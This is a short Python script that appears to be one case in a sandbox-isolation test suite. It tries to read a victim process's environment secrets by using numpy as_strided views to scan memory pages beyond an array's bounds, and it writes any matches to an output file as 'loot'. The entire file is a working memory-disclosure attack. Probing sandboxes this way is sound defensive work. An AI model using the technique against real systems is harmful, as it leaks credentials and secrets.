# kind: secrets
# tries: The same without ctypes, by as_strided, which both outer layers let pass
# control: none

import os
from pathlib import Path

import numpy as np

name = VICTIM["env"].encode() + b"="
a = np.zeros(64, dtype="u1")
step = 4096 - a.ctypes.data % 4096
out = Path(os.environ["OUTPUT_FILE_PATH"]).open("wb", buffering=0)
out.write(b"loot\n")
for n in range(5_000):
    page = np.lib.stride_tricks.as_strided(a, shape=(2, 4096), strides=(step - 4096 * n - 4096, 1))[1].tobytes()
    at = page.find(name)
    if at >= 0:
        out.write(page[at : at + 100] + b"\n")
